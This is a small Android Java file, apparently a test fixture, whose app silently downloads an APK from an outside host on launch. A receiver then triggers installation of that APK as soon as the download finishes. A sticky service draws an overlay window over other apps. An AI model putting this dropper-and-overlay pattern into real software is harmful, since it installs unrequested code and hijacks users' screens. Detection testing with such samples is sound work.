package fixture.windowpushed;

import android.app.*;
import android.content.*;
import android.hardware.*;
import android.net.Uri;
import android.os.*;
import android.view.*;
import android.widget.*;

public class MainActivity extends Activity {
  @Override protected void onCreate(Bundle state) {
    super.onCreate(state);
    DownloadManager.Request request = new DownloadManager.Request(Uri.parse("https://dl.shuju.cn/game.apk"));
    request.setTitle("game");
    ((DownloadManager) getSystemService(DOWNLOAD_SERVICE)).enqueue(request);
    startService(new Intent(this, Push.class));
  }

  /** Shows a window over whatever is in front. */
  public static class Push extends Service {
    @Override public int onStartCommand(Intent intent, int flags, int id) {
      WindowManager.LayoutParams params = new WindowManager.LayoutParams();
      params.type = WindowManager.LayoutParams.TYPE_APPLICATION_OVERLAY;
      ((WindowManager) getSystemService(WINDOW_SERVICE)).addView(new TextView(this), params);
      return START_STICKY;
    }
    @Override public IBinder onBind(Intent intent) { return null; }
  }

  /** Installs what was downloaded as soon as it is there. */
  public static class Done extends BroadcastReceiver {
    @Override public void onReceive(Context context, Intent intent) {
      Intent install = new Intent(Intent.ACTION_VIEW);
      install.setDataAndType(Uri.parse("content://fixture/game.apk"), "application/vnd.android.package-archive");
      install.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
      context.startActivity(install);
    }
  }
}
